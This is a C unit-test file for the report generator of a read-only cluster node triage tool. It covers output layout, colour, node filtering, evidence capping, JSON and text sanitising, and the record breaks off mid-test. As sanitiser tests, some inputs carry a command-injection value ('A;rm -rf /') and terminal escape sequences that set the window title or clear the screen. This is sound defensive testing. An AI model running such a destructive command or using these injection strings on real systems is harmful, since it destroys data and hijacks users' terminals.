/*
 * Tests for the reporter: the exact text layout, colour on/off, the
 * sanitiser, evidence capping, the JSON document, hp_report_worst and the
 * colour decision.
 */
#include <stdlib.h>
#include <string.h>

#include "hp/report.h"
#include "hp/snapshot.h"
#include "hp/text.h"
#include "t.h"

static const struct hp_check c_identity = {
	.id = "cluster.identity", .section = "", .prio = HP_PNONE,
	.group = HP_GROUP_IDENTITY,
};
static const struct hp_check c_status = {
	.id = "cluster.status", .section = "J.1", .prio = HP_P0,
	.group = HP_GROUP_IDENTITY,
};
static const struct hp_check c_events = {
	.id = "events.signals", .section = "A+B", .prio = HP_P0,
	.group = HP_GROUP_EVENTS,
};
static const struct hp_check c_nodes = {
	.id = "nodes.status", .section = "F", .prio = HP_P1,
	.group = HP_GROUP_NODES,
};
static const struct hp_check c_logs = {
	.id = "logs.group", .section = "L", .prio = HP_P2,
	.group = HP_GROUP_LOGS,
};

static const struct hp_report_opts plain = {
	.color = 0, .cluster = "ml-cluster", .region = "us-west-2", .orchestrator = "EKS",
};

/*
 * A small cluster: findings are emitted out of group order on purpose, so
 * the report has to sort them into their blocks.
 */
static void build_small(struct hp_findings *f)
{
	struct hp_emit em = { &c_nodes, f };
	struct hp_finding *x;

	hp_emitx(&em, HP_TAG_WARN, HP_P1, NULL, "i-0def0000000000001",
		 "i-0def0000000000001 (workers / ml.p5.48xlarge) is Pending");
	em.check = &c_events;
	x = hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, "i-0abc0000000000001",
		     "EFA health check failure on i-0abc0000000000001 (2 events)");
	hp_finding_evidence(x, "2026-03-01T10:00:00Z EFA health checks did not run successfully");
	hp_finding_evidence(x, "2026-03-01T09:00:00Z EFA health checks did not run successfully");
	em.check = &c_identity;
	hp_emit(&em, HP_TAG_INFO, "Cluster ARN: arn:aws:sagemaker:us-west-2:111122223333:cluster/abcdef012345");
	em.check = &c_status;
	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
	em.check = &c_logs;
	hp_emitx(&em, HP_TAG_WARN, HP_P2, "", NULL, "Log group check could not run");
	em.check = &c_nodes;
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-0def0000000000002",
		 "i-0def0000000000002 (workers / ml.p5.48xlarge) is Failure: hardware fault");
}

#define RULE "════════════════════════════════════════════════════════\n"
#define BANNER "\nHyperPod Node Triage — READ-ONLY\n" \
	"Only reads: no cluster, node or workload state is modified.\n" \
	"Each FAIL/WARN line names its section in references/node-diagnostics-detail.md.\n"
#define REF " → references/node-diagnostics-detail.md § "

static const char small_expected[] =
	BANNER
	"\n" RULE "  1. Cluster Identity\n" RULE
	"  [INFO] Cluster ARN: arn:aws:sagemaker:us-west-2:111122223333:cluster/abcdef012345\n"
	"  [PASS] Cluster status: InService\n"
	"\n" RULE "  2. Cluster Events (Root Cause Signals)\n" RULE
	"  [FAIL] EFA health check failure on i-0abc0000000000001 (2 events)"
	REF "A (EFA / Security Group) + § B (VPC / Routing)\n"
	"    2026-03-01T10:00:00Z EFA health checks did not run successfully\n"
	"    2026-03-01T09:00:00Z EFA health checks did not run successfully\n"
	"\n" RULE "  3. Node Health Status\n" RULE
	"  [WARN] i-0def0000000000001 (workers / ml.p5.48xlarge) is Pending"
	REF "F (Hardware / Auto-Repair)\n"
	"  [FAIL] i-0def0000000000002 (workers / ml.p5.48xlarge) is Failure: hardware fault"
	REF "F (Hardware / Auto-Repair)\n"
	"\n" RULE "  6. CloudWatch Logs\n" RULE
	"  [WARN] Log group check could not run\n"
	"\n" RULE "  9. Triage Summary\n" RULE
	"  Issues found (4):\n"
	"\n"
	"  [P0 — Fix Immediately]\n"
	"    → EFA health check failure on i-0abc0000000000001 (2 events)"
	REF "A (EFA / Security Group) + § B (VPC / Routing)\n"
	"  [P1 — Fix Soon]\n"
	"    → i-0def0000000000001 (workers / ml.p5.48xlarge) is Pending"
	REF "F (Hardware / Auto-Repair)\n"
	"    → i-0def0000000000002 (workers / ml.p5.48xlarge) is Failure: hardware fault"
	REF "F (Hardware / Auto-Repair)\n"
	"  [P2 — Informational]\n"
	"    → Log group check could not run\n"
	"\n"
	"  Recommended next steps:\n"
	"    1. Fix the P0 issues first, then P1; P2 lines are for information.\n"
	"    2. Read the section each issue points to in references/node-diagnostics-detail.md"
	" for the cause and the fix.\n"
	"    3. After a fix, confirm on the affected node: hpnode triage --cluster ml-cluster"
	" --region us-west-2 --node <instance-id>\n"
	"    4. To look inside a node, open an SSM session to it; see § K (Node Access via SSM).\n"
	"    5. The cited sections, offline: hpnode explain A B F\n"
	"\n"
	"Cluster: ml-cluster  |  Region: us-west-2  |  Orchestrator: EKS\n"
	"\n";

/* First differing offset, so a failure shows where the layout went off. */
static void check_text(const char *got, const char *want)
{
	size_t i = 0;

	while (got[i] && got[i] == want[i])
		i++;
	if (got[i] != want[i])
		T_FAILF("text differs at byte %zu: got \"%.80s\", want \"%.80s\"", i, got + i, want + i);
}

static void t_text_exact(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);

	build_small(&f);
	hp_report_text(&f, &plain, &out);
	check_text(out.buf, small_expected);
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static void t_text_no_issues(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_emit em = { &c_status, &f };
	struct hp_report_opts o = plain;

	/* A WARN without a priority is shown but is not an issue. */
	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
	hp_emitx(&em, HP_TAG_WARN, HP_PNONE, NULL, NULL, "GPU has 2 uncorrectable remapped rows");
	hp_emitx(&em, HP_TAG_SKIP, HP_P0, NULL, NULL, "EKS checks skipped: Slurm cluster");
	o.title = "Custom Title";
	hp_report_text(&f, &o, &out);
	T_ASSERT(!strncmp(out.buf, "\nCustom Title\n", 14));
	T_NOT_CONTAINS(out.buf, "READ-ONLY");
	/* A WARN without a priority still points to its section; only the summary leaves it out. */
	T_CONTAINS(out.buf, "  [WARN] GPU has 2 uncorrectable remapped rows" REF "J.1 (Cluster Status)\n");
	T_CONTAINS(out.buf, "  [SKIP] EKS checks skipped: Slurm cluster\n");
	T_CONTAINS(out.buf, "  9. Triage Summary\n" RULE
		   "  No critical issues detected from available signals.\n"
		   "\n  Not checked (1):\n    - EKS checks skipped: Slurm cluster\n"
		   "\n  Next steps:\n");
	T_CONTAINS(out.buf, "hpnode triage --cluster ml-cluster --region us-west-2 --node <instance-id>");
	T_NOT_CONTAINS(out.buf, "Issues found");
	T_NOT_CONTAINS(out.buf, "[P0");
	T_NOT_CONTAINS(out.buf, "[P1");
	T_NOT_CONTAINS(out.buf, "[P2");
	T_NOT_CONTAINS(out.buf, "Recommended next steps");
	/* The WARN line's section is cited; the PASS line prints no pointer and is not. */
	T_CONTAINS(out.buf, "    • The sections cited above, offline: hpnode explain J.1\n\nCluster:");
	T_CONTAINS(out.buf, "\nCluster: ml-cluster  |  Region: us-west-2  |  Orchestrator: EKS\n\n");
	hp_buf_release(&out);
	hp_findings_release(&f);
}

/* What went unchecked (a failed call, a SKIP) is listed apart, issues or not; JSON counts it. */
static void t_not_checked(void)
{
	static const struct hp_check c_api = {
		.id = "api.vpc", .section = "K", .prio = HP_P1, .group = HP_GROUP_VPC,
	};
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_emit em = { &c_status, &f };
	cJSON *doc;

	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
	hp_report_text(&f, &plain, &out);
	T_NOT_CONTAINS(out.buf, "Not checked");
	hp_buf_reset(&out);
	em.check = &c_nodes;
	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, NULL, "Node i-0abc not probed: node not Running");
	hp_report_text(&f, &plain, &out);
	T_CONTAINS(out.buf, "  No critical issues detected from available signals.\n"
		   "\n  Not checked (1):\n"
		   "    - Node i-0abc not probed: node not Running\n"
		   "\n  Next steps:\n");
	hp_buf_reset(&out);
	em.check = &c_api;
	hp_emitx(&em, HP_TAG_WARN, HP_P1, "K.2", NULL,
		 "Could not run ec2:DescribeSecurityGroups (ExpiredToken) — VPC data not checked");
	hp_report_text(&f, &plain, &out);
	T_CONTAINS(out.buf, "  [P1 — Fix Soon]\n    → Could not run ec2:DescribeSecurityGroups");
	T_CONTAINS(out.buf, "\n  Not checked (2):\n"
		   "    - Node i-0abc not probed: node not Running\n"
		   "    - Could not run ec2:DescribeSecurityGroups (ExpiredToken) — VPC data not checked"
		   REF "K.2 (AWS Credentials)\n"
		   "\n  Recommended next steps:\n");
	hp_buf_reset(&out);
	hp_report_json(&f, &plain, &out);
	doc = cJSON_Parse(out.buf);
	T_ASSERT(doc != NULL);
	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "not_checked")->valuedouble, 2);
	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "P1")->valuedouble, 1);
	cJSON_Delete(doc);
	hp_buf_release(&out);
	hp_findings_release(&f);
}

/*
 * --node: the node's findings and the cluster's about it stay; another
 * node's, another group's, and subnets or groups its group does not use go.
 */
static void t_focus(void)
{
	static const struct hp_check c_vpc = {
		.id = "network.vpc", .section = "B.1", .prio = HP_P1, .group = HP_GROUP_VPC,
	};
	struct hp_snapshot s;
	struct hp_findings f = { 0 };
	struct hp_emit em = { &c_nodes, &f };
	struct hp_finding *x;
	const char *me = "i-0aaa0000000000001";
	size_t i;

	hp_snapshot_init(&s);
	hp_snapshot_set(&s, "cluster", cJSON_Parse(
		"{\"ClusterName\":\"c\",\"VpcConfig\":{\"Subnets\":[\"subnet-0c0c0c0c0c0c0c0c0\"],"
		"\"SecurityGroupIds\":[\"sg-0c0c0c0c0c0c0c0c0\"]},\"InstanceGroups\":["
		"{\"InstanceGroupName\":\"gpu\",\"OverrideVpcConfig\":{\"Subnets\":[\"subnet-0a0a0a0a0a0a0a0a0\"],"
		"\"SecurityGroupIds\":[\"sg-0a0a0a0a0a0a0a0a0\"]}},{\"InstanceGroupName\":\"cpu\"}]}"));
	hp_snapshot_set(&s, "nodes", cJSON_Parse(
		"[{\"InstanceId\":\"i-0aaa0000000000001\",\"InstanceGroupName\":\"gpu\"},"
		"{\"InstanceId\":\"i-0bbb0000000000002\",\"InstanceGroupName\":\"cpu\"}]"));
	T_STREQ(hp_report_node_group(&s, me), "gpu");
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, me, "keep: mine");
	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, "i-0bbb0000000000002", "drop: another node's");
	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "keep: folded, me among them");
	hp_finding_node(x, "i-0bbb0000000000002");
	hp_finding_node(x, me);
	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: folded, without me");
	hp_finding_node(x, "i-0bbb0000000000002");
	hp_emit(&em, HP_TAG_INFO, "keep: Total: 2  Running: 2");
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: Instance group 'cpu' has 1 of 2 nodes");
	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "keep: Instance group 'gpu' runs ThreadsPerCore=1");
	em.check = &c_vpc;
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: Subnet subnet-0c0c0c0c0c0c0c0c0 not found");
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL,
		 "keep: Subnet subnet-0a0a0a0a0a0a0a0a0 and subnet-0c0c0c0c0c0c0c0c0 in two VPCs");
	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, NULL, "keep: sg-0a0a0a0a0a0a0a0a0 lacks the outbound rule");
	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, NULL, "drop: sg-0c0c0c0c0c0c0c0c0 lacks the outbound rule");
	i = hp_report_focus(&s, me, &f);
	T_EQ(f.n, 6);
	T_EQ(i, 5);
	for (i = 0; i < f.n; i++)
		if (!hp_starts_with(f.v[i].message, "keep: "))
			T_FAILF("kept: %s", f.v[i].message);
	hp_findings_release(&f);
	hp_snapshot_release(&s);
}

/* Each cited id once, in report order; an id that is not plain never goes into the command. */
static void t_text_explain_ids(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT), one = HP_BUF_INIT(4096);
	struct hp_emit em = { &c_nodes, &f };

	hp_emitx(&em, HP_TAG_FAIL, HP_P1, "G.1+F", NULL, "one");
	hp_emitx(&em, HP_TAG_FAIL, HP_P1, "F+G.1.a+G", NULL, "two");
	hp_emitx(&em, HP_TAG_WARN, HP_P2, "A;rm -rf /+K.1", NULL, "three");
	hp_emitx(&em, HP_TAG_PASS, HP_PNONE, "Z", NULL, "four");
	hp_report_text(&f, &plain, &out);
	T_CONTAINS(out.buf, "    5. The cited sections, offline: hpnode explain G.1 F G.1.a G K.1\n");
	hp_report_explain(&one, &f.v[2]);
	T_STREQ(one.buf, "hpnode explain K.1");
	hp_buf_reset(&one);
	hp_report_explain(&one, &f.v[3]);
	T_STREQ(one.buf, "hpnode explain Z");
	hp_buf_release(&one);
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static void t_text_empty_and_null_opts(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);

	hp_report_text(&f, NULL, &out);
	T_ASSERT(hp_starts_with(out.buf, BANNER "\n" RULE "  9. Triage Summary\n" RULE
				"  No critical issues detected"));
	T_NOT_CONTAINS(out.buf, "1. Cluster Identity");
	T_CONTAINS(out.buf, "--cluster <cluster> --region <region>");
	T_CONTAINS(out.buf, "Cluster: unknown  |  Region: unknown  |  Orchestrator: unknown\n");
	hp_buf_release(&out);
}

static void t_text_pointer_forms(void)
{
	static const struct {
		const char *section;
		const char *want; /* "" = no pointer at all */
	} cases[] = {
		{ "F", REF "F (Hardware / Auto-Repair)\n" },
		{ "G+F", REF "G (GPU/Accelerator) + § F (Hardware / Auto-Repair)\n" },
		{ "G.1.a", REF "G.1.a (Row-Remap State)\n" },
		{ "C+F+K", REF "C (Capacity / AZ) + § F (Hardware / Auto-Repair) + § K (Node Access via SSM)\n" },
		{ "Q", REF "Q\n" }, /* unknown id: no title */
		{ "", "" },
	};
	size_t i;

	for (i = 0; i < HP_ARRAY_LEN(cases); i++) {
		struct hp_findings f = { 0 };
		struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT), want = HP_BUF_INIT(4096);
		struct hp_emit em = { &c_nodes, &f };

		hp_emitx(&em, HP_TAG_FAIL, HP_P1, cases[i].section, NULL, "msg%zu", i);
		hp_emitx(&em, HP_TAG_PASS, HP_P1, cases[i].section, NULL, "ok%zu", i);
		hp_report_text(&f, &plain, &out);
		hp_buf_printf(&want, "  [FAIL] msg%zu%s", i, *cases[i].want ? cases[i].want : "\n");
		T_CONTAINS(out.buf, want.buf);
		hp_buf_reset(&want);
		hp_buf_printf(&want, "    → msg%zu%s", i, *cases[i].want ? cases[i].want : "\n");
		T_CONTAINS(out.buf, want.buf);
		/* PASS lines never carry a pointer. */
		hp_buf_reset(&want);
		hp_buf_printf(&want, "  [PASS] ok%zu\n", i);
		T_CONTAINS(out.buf, want.buf);
		hp_buf_release(&want);
		hp_buf_release(&out);
		hp_findings_release(&f);
	}
}

/*
 * A pointer names the reference document of its check and takes the
 * titles from that document: a check of another (here not embedded)
 * document gets its file name and no titles from the node guide.
 */
static void t_pointer_document_of_the_check(void)
{
	static const struct hp_check other = {
		.id = "other.check", .doc = "other-guide.md", .section = "F", .prio = HP_P1,
		.group = HP_GROUP_NODES,
	};
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT), ptr = HP_BUF_INIT(4096);
	struct hp_emit em = { &other, &f };
	const cJSON *x;
	cJSON *doc;
	int seen = 0;

	hp_emit(&em, HP_TAG_FAIL, "elsewhere");
	em.check = &c_nodes;
	hp_emit(&em, HP_TAG_FAIL, "here");
	hp_report_text(&f, &plain, &out);
	T_CONTAINS(out.buf, "  [FAIL] elsewhere → references/other-guide.md § F\n");
	T_CONTAINS(out.buf, "  [FAIL] here" REF "F (Hardware / Auto-Repair)\n");
	hp_report_pointer(&ptr, &f.v[0]);
	T_STREQ(ptr.buf, " → references/other-guide.md § F");
	hp_buf_reset(&out);
	hp_report_json(&f, &plain, &out);
	doc = cJSON_Parse(out.buf);
	T_ASSERT(doc != NULL);
	cJSON_ArrayForEach(x, cJSON_GetObjectItem(doc, "findings")) {
		const char *check = cJSON_GetStringValue(cJSON_GetObjectItem(x, "check"));
		const cJSON *title = cJSON_GetObjectItem(x, "title");

		T_ASSERT(check != NULL);
		if (!strcmp(check, "other.check"))
			T_ASSERT(cJSON_IsNull(title));
		else
			T_STREQ(cJSON_GetStringValue(title), "Hardware / Auto-Repair");
		seen++;
	}
	T_EQ(seen, 2);
	cJSON_Delete(doc);
	hp_buf_release(&ptr);
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static void t_text_color(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_report_opts o = plain;
	struct hp_emit em = { &c_nodes, &f };
	struct hp_finding *x;

	build_small(&f);
	/* Escape sequences from the cluster must not survive either way. */
	x = hp_emitx(&em, HP_TAG_INFO, HP_PNONE, NULL, "i-\x1b[2J0abc", "node says \x1b[31mred\x1b[0m\x1b]0;pwned\x07");
	hp_finding_evidence(x, "\x1b[1;33mevidence\x9b");
	o.cluster = "ml\x1b[5mcluster";
	hp_report_text(&f, &o, &out);
	T_ASSERT(!memchr(out.buf, 0x1b, out.len));
	T_CONTAINS(out.buf, "  [INFO] node says red\n");
	T_CONTAINS(out.buf, "    evidence?\n");
	T_CONTAINS(out.buf, "Cluster: mlcluster  |");

	hp_buf_reset(&out);
	o.color = 1;
	hp_report_text(&f, &o, &out);
	T_ASSERT(memchr(out.buf, 0x1b, out.len) != NULL);
	T_CONTAINS(out.buf, "  \033[0;31m[FAIL]\033[0m EFA health check failure");
	T_CONTAINS(out.buf, "  \033[0;32m[PASS]\033[0m Cluster status: InService\n");
	T_CONTAINS(out.buf, "  \033[1;33m[WARN]\033[0m i-0def0000000000001");
	T_CONTAINS(out.buf, "  \033[1m[INFO]\033[0m node says red\n");
	T_CONTAINS(out.buf, "\033[0;36m" "═");
	T_CONTAINS(out.buf, "  \033[0;31m[P0 — Fix Immediately]\033[0m\n");
	T_CONTAINS(out.buf, "  \033[1;33m[P1 — Fix Soon]\033[0m\n");
	/* Only our own codes: the cluster's ESC[2J, ESC[5m and the OSC are gone. */
	T_NOT_CONTAINS(out.buf, "\033[2J");
	T_NOT_CONTAINS(out.buf, "\033[5m");
	T_NOT_CONTAINS(out.buf, "\033]");
	T_NOT_CONTAINS(out.buf, "pwned");
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static void t_text_color_only_difference(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf a = HP_BUF_INIT(HP_MAX_PROC_OUT), b = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_buf stripped = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_report_opts o = plain;

	build_small(&f);
	hp_report_text(&f, &o, &a);
	o.color = 1;
	hp_report_text(&f, &o, &b);
	/* Removing the colour codes from the coloured report gives the plain one. */
	hp_text_add(HP_TEXT_REPORT, b.buf, &stripped, HP_MAX_PROC_OUT);
	{
		struct hp_buf plain_flat = HP_BUF_INIT(HP_MAX_PROC_OUT);

		hp_text_add(HP_TEXT_REPORT, a.buf, &plain_flat, HP_MAX_PROC_OUT);
		T_STREQ(stripped.buf, plain_flat.buf);
		hp_buf_release(&plain_flat);
	}
	T_ASSERT(b.len > a.len);
	hp_buf_release(&a);
	hp_buf_release(&b);
	hp_buf_release(&stripped);
	hp_findings_release(&f);
}

static char *sanitized(const char *s, size_t max)
{
	struct hp_buf b = HP_BUF_INIT(HP_MAX_LINE);

	hp_text_add(HP_TEXT_REPORT, s, &b, max);
	return hp_buf_detach(&b, NULL);
}

static void t_sanitize_table(void)
{
	static const struct {
		const char *in;
		size_t max;
		const char *want;
	} cases[] = {
		{ "plain text", 100, "plain text" },
		{ "", 100, "" },
		{ "\x1b[31mred\x1b[0m", 100, "red" },
		{ "a\x1b[1;33;40mb", 100, "ab" },
		{ "a\x1b[?25lb", 100, "ab" },                    /* private CSI */
		{ "x\x1b]0;evil title\x07y", 100, "xy" },          /* OSC ended by BEL */
		{ "x\x1b]8;;http://e/\x1b\\link\x1b]8;;\x1b\\y", 100, "xlinky" }, /* OSC ended by ST */
		{ "x\x1b]0;never ends", 100, "x" },               /* unterminated OSC */
		{ "x\x1bPdcs data\x1b\\y", 100, "xy" },            /* DCS */
		{ "a\x1b" "cb", 100, "ab" },                       /* ESC c (reset) */
		{ "a\x1b(Bb", 100, "ab" },                         /* ESC ( B */
		{ "a\x1b", 100, "a" },                             /* lone ESC at the end */
		{ "a\x1b\x1b[2Jb", 100, "ab" },
		{ "bell\x07!", 100, "bell!" },
		{ "a\tb\rc\nd", 100, "a b c d" },
		{ "line\r\n", 100, "line  " },
		{ "\x01\x02x\x7fy\x1f", 100, "xy" },
		{ "c1\xc2\x80\xc2\x9b[31mz\xc2\x9f!", 100, "c1[31mz!" },
		{ "nbsp\xc2\xa0ok", 100, "nbsp\xc2\xa0ok" },       /* U+00A0 is not C1 */
		{ "raw c1 \x9b\x85", 100, "raw c1 ??" },           /* bare continuation bytes */
		{ "bad \xff\xfe end", 100, "bad ?? end" },
		{ "overlong \xc0\xaf", 100, "overlong ??" },
		{ "overlong3 \xe0\x80\xaf", 100, "overlong3 ???" },
		{ "surrogate \xed\xa0\x80", 100, "surrogate ???" },
		{ "too big \xf4\x90\x80\x80", 100, "too big ????" },
		{ "cut \xe2\x82", 100, "cut ?" },                  /* truncated at the end */
		{ "cut \xe2\x82x", 100, "cut ?x" },                /* maximal prefix = one '?' */
		{ "cut4 \xf0\x9f\x98x", 100, "cut4 ?x" },
		{ "ok €→§ 😀", 100, "ok €→§ 😀" },
		{ "tag 日本語", 100, "tag 日本語" },
		/* bounded: cut on a character boundary, then the ellipsis */
		{ "abcdefghij", 10, "abcdefghij" },
		{ "abcdefghijk", 10, "abcdefg…" },
		{ "€€€€", 12, "€€€€" },
		{ "€€€€€", 12, "€€€…" },
		{ "ab€€€", 9, "ab€…" },                          /* 2+3 = 5, +3 = 8 ≤ 9 */
		{ "ab€€€", 8, "ab€…" },
		{ "ab€€€", 7, "ab…" },
		{ "abc", 3, "abc" },
		{ "abcd", 3, "…" },
		{ "abc", 2, "" },                                  /* no room even for the ellipsis */
		{ "abc", 0, "" },
		{ "\x1b[31m\x1b[0m", 0, "" },                      /* nothing to write, nothing cut */
		{ "12\x1b[31m34\x1b[0m56789", 8, "12345…" },       /* escapes do not count */
	};
	size_t i;

	for (i = 0; i < HP_ARRAY_LEN(cases); i++) {
		char *got = sanitized(cases[i].in, cases[i].max);

		if (strcmp(got, cases[i].want) || strlen(got) > cases[i].max) {
			char why[256];

			snprintf(why, sizeof(why), "case %zu: got \"%s\", want \"%s\"", i, got, cases[i].want);
			free(got);
			T_FAILF("%s", why);
		}
		free(got);
	}
}

static void t_sanitize_appends(void)
{
	struct hp_buf b = HP_BUF_INIT(HP_MAX_LINE);

	hp_buf_puts(&b, "prefix:");
	hp_text_add(HP_TEXT_REPORT, "abcdef\x1b[0m", &b, 4);
	T_STREQ(b.buf, "prefix:a…");
	hp_text_add(HP_TEXT_REPORT, NULL, &b, 4);
	T_STREQ(b.buf, "prefix:a…");
	hp_text_add(HP_TEXT_REPORT, "€", &b, 100);
	T_STREQ(b.buf, "prefix:a…€");
	hp_buf_release(&b);
}

/* Output is always valid UTF-8 without control bytes, whatever comes in. */
static void t_sanitize_any_bytes(void)
{
	unsigned char in[4096];
	unsigned int seed = 12345;
	int round;

	for (round = 0; round < 200; round++) {
		struct hp_buf b = HP_BUF_INIT(HP_MAX_LINE);
		size_t i, n = (size_t)(round * 17 % 4000) + 1, max = (size_t)(round * 7 % 300);
		const unsigned char *p;

		for (i = 0; i < n; i++) {
			seed = seed * 1103515245u + 12345u;
			in[i] = (unsigned char)((seed >> 16) % 255 + 1);
		}
		in[n] = '\0';
		hp_text_add(HP_TEXT_REPORT, (const char *)in, &b, max);
		T_ASSERT(b.len <= max);
		T_ASSERT(strlen(b.buf) == b.len);
		for (p = (const unsigned char *)b.buf; *p;) {
			T_ASSERT(*p >= 0x20 && *p != 0x7f);
			if (*p < 0x80) {
				p++;
				continue;
			}
			/* A lead byte then the right number of continuation bytes. */
			{
				int k = *p >= 0xf0 ? 3 : *p >= 0xe0 ? 2 : 1;

				T_ASSERT(*p >= 0xc2 && *p <= 0xf4);
				T_ASSERT(!(p[0] == 0xc2 && p[1] < 0xa0));
				for (p++; k > 0; k--, p++)
					T_ASSERT((*p & 0xc0) == 0x80);
			}
		}
		hp_buf_release(&b);
	}
}

static void t_evidence_cap(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_emit em = { &c_nodes, &f };
	struct hp_finding *x;
	char line[64];
	int i;

	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "20000 nodes are Failure");
	for (i = 0; i < 20000; i++) {
		snprintf(line, sizeof(line), "i-%017d", i);
		hp_finding_evidence(x, line);
	}
	x = hp_emit(&em, HP_TAG_WARN, "exactly ten");
	for (i = 0; i < 10; i++) {
		snprintf(line, sizeof(line), "ten-%d", i);
		hp_finding_evidence(x, line);
	}
	x = hp_emit(&em, HP_TAG_WARN, "eleven");
	for (i = 0; i < 11; i++) {
		snprintf(line, sizeof(line), "eleven-%d", i);
		hp_finding_evidence(x, line);
	}
	hp_finding_evidence(x, "\x1b[31mred\nline");
	hp_report_text(&f, &plain, &out);
	T_CONTAINS(out.buf, "    i-00000000000000000\n");
	T_CONTAINS(out.buf, "    i-00000000000000009\n    … and 19990 more\n");
	T_NOT_CONTAINS(out.buf, "i-00000000000000010");
	T_CONTAINS(out.buf, "    ten-9\n  [WARN] eleven");
	T_NOT_CONTAINS(out.buf, "… and 0 more");
	T_CONTAINS(out.buf, "    eleven-9\n    … and 2 more\n");
	T_NOT_CONTAINS(out.buf, "eleven-10");
	T_ASSERT(out.len < 20000);

	/* JSON keeps every line. */
	hp_buf_reset(&out);
	hp_report_json(&f, &plain, &out);
	{
		cJSON *doc = cJSON_Parse(out.buf);
		const cJSON *list = cJSON_GetObjectItem(doc, "findings");
		const cJSON *ev;

		T_ASSERT(doc != NULL);
		T_EQ(cJSON_GetArraySize(list), 3);
		ev = cJSON_GetObjectItem(cJSON_GetArrayItem(list, 0), "evidence");
		T_EQ(cJSON_GetArraySize(ev), 20000);
		T_STREQ(cJSON_GetArrayItem(ev, 19999)->valuestring, "i-00000000000019999");
		ev = cJSON_GetObjectItem(cJSON_GetArrayItem(list, 2), "evidence");
		T_EQ(cJSON_GetArraySize(ev), 12);
		T_STREQ(cJSON_GetArrayItem(ev, 11)->valuestring, "red line");
		cJSON_Delete(doc);
	}
	hp_buf_release(&out);
	hp_findings_release(&f);
}

static const char *jstr(const cJSON *o, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, key);

	return cJSON_IsString(v) ? v->valuestring : NULL;
}

static int jnull(const cJSON *o, const char *key)
{
	return cJSON_IsNull(cJSON_GetObjectItemCaseSensitive(o, key));
}

static double jnum(const cJSON *o, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, key);

	return cJSON_IsNumber(v) ? v->valuedouble : -1;
}

static void t_json(void)
{
	struct hp_findings f = { 0 };
	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
	struct hp_emit em = { &c_logs, &f };
	struct hp_report_opts o = plain;
	struct hp_finding *x;
	const cJSON *list, *it, *sum;
	cJSON *doc;

	build_small(&f);
	x = hp_emitx(&em, HP_TAG_INFO, HP_P0, NULL, "i-0aa\x1b[1m", "stream \x1b[31mLifecycleConfig\x1b[0m\t\xff ok\x7f");
	hp_finding_evidence(x, "\x1b]0;title\x07line\xc2\x85 one");
	hp_emit(&em, HP_TAG_SKIP, "skipped");
	o.orchestrator = NULL;
	o.region = "us-west-2\x1b[0m";
	o.color = 1; /* JSON never carries colour */
	hp_report_json(&f, &o, &out);
	T_ASSERT(!memchr(out.buf, 0x1b, out.len));
	T_ASSERT(out.len > 0 && out.buf[out.len - 1] == '\n');
	doc = cJSON_Parse(out.buf);
	T_ASSERT(doc != NULL);
	T_STREQ(jstr(doc, "schema"), "hpnode.triage/2");
	T_STREQ(jstr(doc, "tool"), "hpnode");
	T_STREQ(jstr(doc, "cluster"), "ml-cluster");
	T_STREQ(jstr(doc, "region"), "us-west-2");
	T_ASSERT(jnull(doc, "orchestrator"));

	list = cJSON_GetObjectItem(doc, "findings");
	T_EQ(cJSON_GetArraySize(list), 8);
	/* Report order: identity (2), events (1), nodes (2), logs (3). */
	it = cJSON_GetArrayItem(list, 0);
	T_STREQ(jstr(it, "check"), "cluster.identity");
	T_STREQ(jstr(it, "tag"), "INFO");
	T_ASSERT(jnull(it, "priority"));
	T_ASSERT(jnull(it, "section"));
	T_ASSERT(jnull(it, "title"));
	T_ASSERT(jnull(it, "node"));
	T_STREQ(jstr(it, "group"), "Cluster Identity");
	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(it, "evidence")), 0);
	T_ASSERT(cJSON_IsArray(cJSON_GetObjectItem(it, "evidence")));

